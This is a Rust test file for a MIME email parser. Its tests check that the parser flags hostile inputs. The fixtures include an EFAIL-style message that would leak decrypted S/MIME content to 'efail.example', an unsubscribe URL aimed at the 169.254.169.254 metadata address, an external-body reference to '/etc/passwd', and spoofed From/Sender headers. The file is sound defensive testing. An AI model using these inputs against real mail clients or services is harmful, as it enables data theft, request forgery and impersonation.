//! Rows of the attack and quirk files that concern whole messages: those of S/MIME as far as the message is concerned, and
//! what rows about single values mean for the message they are in.
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

mod both;

use both::{leaf, leaves, parse, span, tells, text, told};
use mime_core::{
    AuthorError, Choice, Config, DefectKind, Message, Part, Severity, TransferEncoding, one_click,
    report::DeliveryStatus,
};

fn base64(body: &str) -> String {
    format!(
        "MIME-Version: 1.0\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}\r\n"
    )
}

/// All ways to decode the only part.
fn decoded(mail: &Message) -> Vec<String> {
    let mut all = vec![text(&mail.root().decode())];
    all.extend(mail.interpretations(9).map(|reading| text(&reading.message.root().decode())));
    all
}

/// A list of encodings: unknown, so the octets stay as they are.
#[test]
fn attack_mimea_03_in_a_message() {
    let octets = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=foo\r\n\r\n--foo\r\nContent-Type: application/octet-stream; name=att\r\nContent-Transfer-Encoding: base64, 7bit\r\n\r\naGk=\r\n--foo--\r\n";
    let mail = parse(octets);
    let part = mail.part("1").unwrap();
    assert_eq!(part.encoding(), TransferEncoding::Unknown);
    assert_eq!(&*part.decode(), b"aGk=");
    assert!(tells(&mail, DefectKind::UnknownCte, span(octets, "base64, 7bit")), "{:?}", mail.defects());
    assert!(mail.strict().is_err());
}

/// Padding in the middle: on, or stopped.
#[test]
fn attack_mimea_31_in_a_message() {
    let mail = parse(base64("aGVsbG8=d29ybGQ="));
    assert!(mail.strict().is_err());
    assert_eq!(decoded(&mail), ["helloworld", "hello"]);
    assert_eq!(mail.interpretations(9).next().unwrap().choices, [Choice::PaddingEnds]);
}

/// Nothing but padding.
#[test]
fn attack_mimea_34_in_a_message() {
    let mail = parse(base64("===="));
    assert!(mail.strict().is_err());
    assert_eq!(decoded(&mail)[0], "");
}

/// Bits behind the last octet.
#[test]
fn attack_mimea_35_in_a_message() {
    let mail = parse(base64("aGVsbG9="));
    assert!(mail.strict().is_err());
    assert_eq!(decoded(&mail)[0], "hello");
}

/// White space within a line is no line end.
#[test]
fn attack_mimea_37_in_a_message() {
    let mail = parse(base64("aGVs bG8="));
    assert!(mail.strict().is_err());
    assert_eq!(decoded(&mail)[0], "hello");
}

/// A piece of a message stays a piece.
#[test]
fn attack_mimeb_24_in_a_message() {
    let mail = parse("Content-Type: message/partial; id=\"x@y\"; number=1; total=999999999\r\n\r\nx");
    assert_eq!(leaves(&mail), [leaf("1", "x")]);
    assert!(mail.root().embedded_message().is_none());
    assert_eq!(mail.root().content_type().unwrap().param("total").as_deref(), Some("999999999"));
}

/// What lies elsewhere is told, and not read.
#[test]
fn attack_mimeb_25_in_a_message() {
    let octets = "Content-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"\r\n\r\nContent-Type: text/plain\r\n\r\n";
    let mail = parse(octets);
    assert_eq!(leaves(&mail), [leaf("1", "Content-Type: text/plain\r\n\r\n")]);
    assert!(mail.root().embedded_message().is_none());
    assert!(mail.defects().iter().any(|defect| defect.kind == DefectKind::ExternalContent));
    assert!(mail.strict().is_err());
}

/// The address to post to is text. Nothing in this crate opens it, and the application learns what it needs to refuse it.
#[test]
fn attack_misc_07() {
    let mail = parse(
        "List-Unsubscribe: <https://169.254.169.254/x>\r\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\r\n\r\n",
    );
    let raw = |name| mail.raw_field(name).unwrap();
    let url = one_click(raw("List-Unsubscribe"), raw("List-Unsubscribe-Post"));
    assert_eq!(url.as_deref(), Some("https://169.254.169.254/x"));
    assert_eq!(one_click(raw("List-Unsubscribe"), b""), None);
    assert_eq!(one_click(b" <http://169.254.169.254/x>", raw("List-Unsubscribe-Post")), None);
}

/// The domain of the author with all its labels, for whoever walks up the tree.
#[test]
fn attack_dmarc_11_author() {
    let mail = parse("From: <a@a.b.c.d.e.f.g.h.i.j.mail.example.com>\r\n\r\n");
    assert_eq!(mail.authenticated_author().unwrap().domain(), "a.b.c.d.e.f.g.h.i.j.mail.example.com");
}

const EFAIL: &str = "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=foo\r\n\r\n--foo\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.example/\r\n--foo\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CA\r\n--foo\r\nContent-Type: text/html\r\n\r\n\">\r\n--foo--\r\n";

/// Each part of HTML is a text of its own, and what is encrypted is an attachment.
#[test]
fn attack_smime_01_parts() {
    let mail = parse(EFAIL);
    let bodies = mail.bodies();
    let html: Vec<_> = bodies.html.iter().map(|part| part.text().unwrap().into_owned()).collect();
    assert_eq!(html, ["<img src=\"http://efail.example/", "\">"]);
    let attachments: Vec<_> = bodies.attachments.iter().map(|part| part.path()).collect();
    assert_eq!(attachments, ["2"]);
    assert!(!mail.root().is_type("application", "pkcs7-mime"));
}

/// No document is made of several parts.
#[test]
fn attack_smime_01_one_document() {
    let mail = parse(EFAIL);
    let html = mail.html().unwrap_or_default();
    assert!(!(html.contains("<img") && html.contains("\">")), "{html}");
}

/// Text beside what is signed is no part of it.
#[test]
fn attack_smime_04_parts() {
    let mail = parse(
        "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=foo\r\n\r\n--foo\r\nContent-Type: text/html\r\n\r\n<div style=\"display:none\"><plaintext>\r\n--foo\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=S\r\n\r\n--S\r\nContent-Type: text/plain\r\n\r\nhi\r\n--S\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCA\r\n--S--\r\n--foo--\r\n",
    );
    let signed = mail.part("2").unwrap();
    assert!(signed.is_type("multipart", "signed") && !mail.root().is_type("multipart", "signed"));
    let texts: Vec<_> = signed.bodies().text.iter().map(|part| part.text().unwrap().into_owned()).collect();
    assert_eq!(texts, ["hi"]);
    assert_eq!(mail.part("2.1").unwrap().raw(), b"Content-Type: text/plain\r\n\r\nhi");
}

fn signed(header: &str) -> Message {
    parse(format!(
        "{header}Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=S\r\n\r\n--S\r\nContent-Type: text/plain\r\n\r\nhi\r\n--S\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCA\r\n--S--\r\n"
    ))
}

/// The author is From, whatever Sender says.
#[test]
fn attack_smime_08_author() {
    let mail = signed("From: manager@corp.example\r\nSender: eve@corp.example\r\n");
    let author = mail.authenticated_author().unwrap();
    assert_eq!(
        (author.address().to_string().as_str(), author.domain()),
        ("manager@corp.example", "corp.example")
    );
    assert_eq!(mail.part("1").unwrap().raw(), b"Content-Type: text/plain\r\n\r\nhi");
}

/// What stands before the angle brackets is a name, and is told.
#[test]
fn attack_smime_09_author() {
    let mail = signed("From: manager@corp.example <eve@corp.example>\r\n");
    let author = mail.authenticated_author().unwrap();
    assert_eq!(author.address().to_string(), "eve@corp.example");
    assert_eq!(author.defects[0].kind, DefectKind::DisplayNameAddress);
    assert!(mail.strict().is_err());
}

/// Two From fields have no author.
#[test]
fn attack_smime_10_author() {
    let mail = signed("From: eve@corp.example\r\nFrom: manager@corp.example\r\n");
    assert_eq!(mail.authenticated_author(), Err(AuthorError::DuplicateFrom));
}

/// Compressed data stays compressed.
#[test]
fn attack_smime_17_octets() {
    let mut octets = b"Content-Type: application/pkcs7-mime; smime-type=compressed-data\r\n\r\n".to_vec();
    let at = octets.len();
    octets
        .extend_from_slice(b"x\xda\xed\xc1\x31\x01\x00\x00\x00\xc2\xa0\xf5\x4f\x6d\x0d\x0f\xa0\x00\x00\x00");
    let mail = parse(&octets);
    assert_eq!(&*mail.root().decode(), &octets[at..]);
    assert_eq!(mail.root().text(), None);
    assert_eq!(mail.root().content_type().unwrap().param("smime-type").as_deref(), Some("compressed-data"));
}

/// Fields inside are those of the part, not of the message.
#[test]
fn attack_smime_18_fields() {
    let octets = "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=S\r\n\r\n--S\r\nContent-Type: text/plain; hp=\"clear\"\r\nFrom: eve@corp.example\r\nSubject: inner\r\n\r\nhi\r\n--S\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCA\r\n--S--\r\n";
    let mail = parse(octets);
    assert_eq!((mail.from().count(), mail.subject()), (0, None));
    assert_eq!(mail.authenticated_author(), Err(AuthorError::Missing));
    let part = mail.part("1").unwrap();
    assert_eq!(part.from().mailboxes().next().unwrap().address(), "eve@corp.example");
    assert_eq!(part.subject().as_deref(), Some("inner"));
    assert_eq!(part.content_type().unwrap().param("hp").as_deref(), Some("clear"));
}

const LF_BEFORE_DELIMITER: &str = "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=S\r\n\r\n--S\r\nContent-Type: text/plain\r\n\r\nhi\n--S\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCA\r\n--S--\r\n";

/// The octets that are signed are those that came.
#[test]
fn attack_smime_19_octets() {
    let mail = parse(LF_BEFORE_DELIMITER);
    assert_eq!(mail.part("1").unwrap().raw(), b"Content-Type: text/plain\r\n\r\nhi");
}

/// LF before a delimiter: to a reader that wants CRLF there is no delimiter (RFC 2046 section 5.1.1).
#[test]
fn attack_smime_19_is_told() {
    let mail = parse(LF_BEFORE_DELIMITER);
    assert!(mail.strict().is_err(), "{:?}", mail.defects());
    let at = LF_BEFORE_DELIMITER.find("\n--S\r\nContent-Type: application").unwrap();
    assert!(tells(&mail, DefectKind::BareLf, at..at + 1), "{:?}", mail.defects());
    assert!(mail.interpretations(9).any(|reading| reading.message.root().children().count() == 1));
}

fn octets_of(part: Part<'_>) -> String {
    text(part.raw())
}

/// The line end before a delimiter belongs to the delimiter (RFC 2046 section 5.1.1), also behind the closing delimiter of
/// what is inside: it is no part of what is signed (RFC 1847 section 2.1).
#[test]
fn signed_multipart_ends_before_the_line_end_of_the_delimiter() {
    let mail = parse(
        "Content-Type: multipart/signed; boundary=S\r\n\r\n--S\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nx\r\n--a--\r\n--S\r\n\r\nsignature\r\n--S--\r\n",
    );
    let inner = "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nx\r\n--a--";
    assert_eq!(octets_of(mail.part("1").unwrap()), inner);
    // With an empty line behind it the first line end is its epilogue.
    let mail = parse(
        "Content-Type: multipart/signed; boundary=S\r\n\r\n--S\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nx\r\n--a--\r\n\r\n--S\r\n\r\nsignature\r\n--S--\r\n",
    );
    assert_eq!(octets_of(mail.part("1").unwrap()), format!("{inner}\r\n"));
}

/// A value that is not quoted: the name as it was meant.
#[test]
fn quirk_mime_137_in_a_message() {
    let octets = "Content-Type: application/octet-stream; name=Test Name.pdf;\r\n\r\nx";
    let mail = parse(octets);
    assert_eq!(mail.root().essence(), "application/octet-stream");
    assert_eq!(mail.root().filename().as_deref(), Some("Test Name.pdf"));
    assert!(mail.defects().iter().any(|defect| defect.kind == DefectKind::ParameterForm));
}

/// A type that is none.
#[test]
fn quirk_mime_141_in_a_message() {
    let mail = parse("Content-Type: cannot open (No such file or directory)\r\n\r\nhi\r\n");
    assert_eq!(mail.root().essence(), "text/plain");
    assert_eq!(mail.text().as_deref(), Some("hi\r\n"));
    assert!(mail.defects().iter().any(|defect| defect.kind == DefectKind::InvalidContentType));
}

/// The line of an mbox file before a message.
#[test]
fn quirk_mime_202_in_a_message() {
    let octets = "From x@y Mon Jan  1 00:00:00 2024\r\nSubject: a\r\n\r\nb\r\n";
    let mail = parse(octets);
    assert_eq!(mail.subject().as_deref(), Some("a"));
    assert_eq!(leaves(&mail), [leaf("1", "b\r\n")]);
    assert_eq!(mail.from().count(), 0);
}

/// By setting, a line of white space ends the header.
#[test]
fn quirk_mime_207_by_setting() {
    let octets = "Subject: a\r\n \t\r\nbody\r\n";
    let mail = both::parse_with(octets, Config::new().blank_line_ends_header(true));
    assert_eq!(mail.subject().as_deref(), Some("a"));
    assert_eq!(leaves(&mail), [leaf("1", "body\r\n")]);
    assert!(told(&mail).iter().any(|told| told.2 >= Severity::Ambiguous), "{:?}", told(&mail));
}

/// A report with a message that is cut off.
#[test]
fn quirk_mime_231() {
    let octets = "Content-Type: multipart/report; boundary=b\r\n\r\n--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: a\r\n\r\ncut of";
    let mail = parse(octets);
    assert_eq!(leaves(&mail), [leaf("1.1", "cut of")]);
    let original = mail.part("1").unwrap().embedded().unwrap();
    assert_eq!(original.subject().as_deref(), Some("a"));
    let end = octets.len();
    assert_eq!(told(&mail), [(DefectKind::CloseDelimiterMissing, end..end, Severity::Lenient)]);
    // So is one with all of its parts.
    let octets = "Content-Type: multipart/report; boundary=b; report-type=delivery-status\r\n\r\n--b\r\n\r\nfailed\r\n--b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; x\r\n\r\nFinal-Recipient: rfc822; a@b\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n--b\r\nContent-Type: message/rfc822\r\n\r\nMessage-ID: <c@d>\r\nSubj";
    let mail = parse(octets);
    let status = mail.part("2").unwrap().decode();
    let status = DeliveryStatus::parse(&status, &Config::new(), &mut ());
    assert_eq!(status.recipients().len(), 1);
    let original = mail.part("3").unwrap().embedded().unwrap();
    assert_eq!(original.message_id().as_deref(), Some("c@d"));
}

/// TNEF that is cut off, in the message it came in.
#[test]
fn quirk_mime_233_in_a_message() {
    let mail = parse(
        "Content-Type: application/ms-tnef; name=\"winmail.dat\"\r\nContent-Transfer-Encoding: base64\r\n\r\neJ8+IgAA\r\n",
    );
    let octets = mail.root().decode();
    assert_eq!(&*octets, b"\x78\x9f\x3e\x22\x00\x00");
    assert_eq!(mail.root().filename().as_deref(), Some("winmail.dat"));
}
